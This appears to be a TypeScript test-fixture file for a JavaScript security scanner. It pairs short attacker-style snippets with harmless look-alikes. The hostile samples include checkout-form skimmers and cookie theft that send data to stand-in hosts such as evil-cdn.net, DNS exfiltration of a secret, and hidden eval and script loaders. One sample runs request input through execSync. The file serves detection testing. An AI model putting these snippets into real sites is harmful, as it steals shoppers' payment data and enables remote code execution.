import { type FlowSample, javascriptFlow as js } from "./flow-sample.ts";

/** Skimmers and loaders as attackers write them into a shop's scripts, each beside honest code that looks like it. */
export const javascriptAttackSamples: readonly FlowSample[] = [
  js(
    "a skimmer whose host is joined",
    "host-undeclared",
    "a:2",
    [
      "const p = ['api', 'stripe-cdn', 'net']; const u = 'ht' + 'tps://' + p.join('.') + '/v1';\nbutton.onclick = () => fetch(u, { method: 'POST', body: new FormData(form) });",
    ],
    [
      "const p = ['api', 'pay', 'example']; const u = 'ht' + 'tps://' + p.join('.') + '/v1';\nbutton.onclick = () => fetch(u, { method: 'POST', body: new FormData(form) });",
    ],
  ),
  js(
    "a picture whose decoded host gets the form",
    "host-undeclared",
    "a:2",
    ["const h = atob('c3RhdC5ldmlsLWNkbi5uZXQ=');\nnew Image().src = 'https://' + h + '/p.gif?d=' + btoa(fields);"],
    ["const h = 'api.pay.example';\nnew Image().src = 'https://' + h + '/p.gif?d=' + btoa(fields);"],
  ),
  js(
    "an address without a scheme",
    "host-undeclared",
    "a:1",
    ["navigator.sendBeacon('//stat.evil-cdn.net/k', keys);"],
    ["navigator.sendBeacon('//api.pay.example/k', keys); const words = '// a comment.'; fetch('/k');"],
  ),
  js(
    "a form that goes elsewhere",
    "host-undeclared",
    "a:1",
    ["document.querySelector('form.checkout').action = 'https://stat.evil-cdn.net/pay';"],
    ["document.querySelector('form.checkout').action = 'https://api.pay.example/pay'; form.action = '/pay';"],
  ),
  js(
    "a handler in markup",
    "host-undeclared",
    "a:1",
    ["box.innerHTML = '<img src=x onerror=\"fetch(\\'https://stat.evil-cdn.net/?\\'+document.cookie)\">';"],
    ['box.innerHTML = \'<img src=x onerror="this.hidden = true"> <a href="https://help.pay-docs.net/">Help</a>\';'],
  ),
  js(
    "a handler as text",
    "eval",
    "a:1",
    ["button.setAttribute('onclick', 'eval(window.name)');"],
    ["button.setAttribute('onclick', 'show()'); button.setAttribute('data-once', 'eval(1)');"],
  ),
  js(
    "a script element of decoded text",
    "eval-hidden",
    "a:2",
    ["const s = document.createElement('script');\ns.textContent = atob(code); document.head.append(s);"],
    ["const s = document.createElement('style');\ns.textContent = atob(code); document.head.append(s);"],
  ),
  js(
    "a script element of fetched text",
    "eval-hidden",
    "a:1",
    [
      "fetch('/x').then((r) => r.text()).then((t) => { const s = document.createElement('script'); s.appendChild(document.createTextNode(`${t};`)); });",
    ],
    [
      "fetch('/x').then((r) => r.text()).then((t) => { const s = document.createElement('p'); s.appendChild(document.createTextNode(`${t};`)); });",
    ],
  ),
  js(
    "the constructor behind a function's prototype",
    "eval",
    "a:2",
    ["const F = Object.getPrototypeOf(async function () {}).constructor;\nnew F('x', code)();"],
    ["const F = Object.getPrototypeOf(Int8Array).constructor;\nnew G('x', code)();"],
  ),
  js(
    "an import of text",
    "remote-code",
    "a:1",
    ["import('data:text/javascript,' + encodeURIComponent(code));"],
    ["import('./lang/' + encodeURIComponent(code) + '.js');"],
  ),
  js(
    "an import of a blob",
    "remote-code",
    "a:2",
    ["const u = URL.createObjectURL(new Blob([code]));\nimport(u);"],
    ["const u = URL.createObjectURL(new Blob([image]));\npicture.src = u;"],
  ),
  js(
    "a worker of a blob",
    "eval",
    "a:1",
    ["new Worker(URL.createObjectURL(new Blob([code])));"],
    ["new Worker(new URL('./worker.js', import.meta.url));"],
  ),
  js(
    "a program of bytes",
    "eval",
    "a:1",
    ["WebAssembly.instantiate(Uint8Array.from(bytes));"],
    ["Number.instantiate(Uint8Array.from(bytes));"],
  ),
  js(
    "the loader behind require",
    "call-hidden",
    "a:2",
    ["const m = require('module');\nm._load('child_' + 'process').exec('id');"],
    ["const m = require('module');\nm._load('node:' + 'path').join('id');"],
  ),
  js(
    "a name that is asked for",
    "host-undeclared",
    "a:2",
    ["const dns = require('dns');\ndns.lookup(Buffer.from(secret).toString('hex') + '.evil-cdn.net', done);"],
    ["const dns = require('dns');\ndns.lookup(host, done);"],
  ),
  js(
    "what a request of one's own route holds",
    "process-received",
    "a:2",
    [
      "const { execSync } = require('child_process');\napp.post('/sync', (req, res) => res.send(execSync(req.body.c)));",
    ],
    [
      "const { readSync } = require('./child_process');\napp.post('/sync', (req, res) => res.send(readSync(req.body.c)));",
    ],
  ),
];
